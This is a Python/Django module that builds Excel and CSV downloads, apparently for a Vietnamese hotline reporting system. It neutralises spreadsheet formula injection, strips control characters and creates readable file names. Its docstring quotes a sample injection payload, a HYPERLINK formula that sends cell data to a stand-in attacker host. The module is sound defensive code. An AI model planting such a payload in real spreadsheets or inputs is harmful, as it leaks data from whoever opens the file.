"""Files people download (Excel, CSV): every user-supplied value neutralised, names that keep Vietnamese readable.

A spreadsheet opens a cell that starts with "=", "+", "-" or "@" as a formula: a hotline question titled
`=HYPERLINK("http://evil.example/?x="&B2, …)` would run in the province's report. Every string that reaches a file
goes through `cell()` (Excel) or `csv_value()` (CSV): formulas become text, and the control characters XML cannot
hold (one `\\x0b` in a title once broke the whole export) are dropped.
"""

import csv
import io
import re
import unicodedata
from datetime import date, datetime

from django.http import HttpResponse
from django.utils import timezone
from django.utils.text import slugify

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# Characters XML 1.0 cannot carry (openpyxl refuses them): C0 controls except tab, newline and carriage return.
ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
DATE_FORMAT = "dd/mm/yyyy"
DATETIME_FORMAT = "dd/mm/yyyy hh:mm"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def clean_text(value):
    """A string without the control characters a file format cannot hold."""
    return ILLEGAL.sub("", value)


def csv_value(value):
    """A CSV cell: text that a spreadsheet would run as a formula is prefixed with an apostrophe."""
    if isinstance(value, str):
        value = clean_text(value)
        if value.startswith(FORMULA_START):
            return "'" + value
    elif isinstance(value, datetime):
        return timezone.localtime(value).strftime("%d/%m/%Y %H:%M") if timezone.is_aware(value) else value
    elif isinstance(value, date):
        return value.strftime("%d/%m/%Y")
    return value


def set_cell(sheet_cell, value):
    """Write `value` into an openpyxl cell: strings always as text (never a formula), dates as dd/mm/yyyy."""
    if isinstance(value, str):
        sheet_cell.value = clean_text(value)
        sheet_cell.data_type = "s"  # a leading "=" stays text: openpyxl would otherwise store a formula
    elif isinstance(value, datetime):
        sheet_cell.value = (
            timezone.localtime(value).replace(tzinfo=None) if timezone.is_aware(value) else value
        )
        sheet_cell.number_format = DATETIME_FORMAT
    elif isinstance(value, date):
        sheet_cell.value = value
        sheet_cell.number_format = DATE_FORMAT
    else:
        sheet_cell.value = value
    return sheet_cell


def append_row(sheet, values):
    """Append a row to an openpyxl sheet through `set_cell`; returns the row number."""
    row = sheet.max_row + 1 if sheet.max_row > 1 or sheet.cell(1, 1).value is not None else 1
    for column, value in enumerate(values, start=1):
        set_cell(sheet.cell(row=row, column=column), value)
    return row


def table_sheet(workbook, title, header, rows, *, widths=None, max_width=60):
    """A sheet holding one table: bold header frozen at the top with filters, safe cells, fitted columns."""
    from openpyxl.styles import Alignment, Font
    from openpyxl.utils import get_column_letter

    sheet = workbook.create_sheet(clean_text(title)[:31])
    append_row(sheet, header)
    for cell in sheet[1]:
        cell.font = Font(bold=True)
        cell.alignment = Alignment(wrap_text=True, vertical="top")
    for row in rows:
        append_row(sheet, row)
    for index, column in enumerate(sheet.iter_cols(min_row=1, max_row=sheet.max_row), start=1):
        letter = get_column_letter(index)
        if widths and index <= len(widths) and widths[index - 1]:
            sheet.column_dimensions[letter].width = widths[index - 1]
            continue
        longest = max((len(_shown(c.value)) for c in column), default=8)
        sheet.column_dimensions[letter].width = min(max_width, max(10, longest + 2))
    sheet.freeze_panes = "A2"
    if sheet.max_row > 1:
        sheet.auto_filter.ref = sheet.dimensions
    return sheet


def _shown(value):
    if isinstance(value, datetime):
        return "00/00/0000 00:00"
    if isinstance(value, date):
        return "00/00/0000"
    return str(value if value is not None else "")


def download_name(*parts, ext):
    """A file name from Vietnamese words: "Lâm Đồng" → "lam-dong" (Django's slugify alone drops the đ)."""
    words = []
    for part in parts:
        text = str(part).replace("đ", "d").replace("Đ", "D")
        text = unicodedata.normalize("NFKD", text).encode("ascii", "ignore").decode("ascii")
        slug = slugify(text)
        if slug:
            words.append(slug)
    return f"{'-'.join(words) or 'tep'}.{ext}"


def attachment(response, filename):
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def csv_response(filename, header, rows):
    """A UTF-8 CSV download (with BOM, so Excel reads Vietnamese) whose every cell went through `csv_value`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([csv_value(h) for h in header])
    writer.writerows([csv_value(v) for v in row] for row in rows)
    response = HttpResponse("\ufeff" + buffer.getvalue(), content_type="text/csv; charset=utf-8")
    return attachment(response, filename)


def xlsx_response(content, filename):
    return attachment(HttpResponse(content, content_type=XLSX), filename)
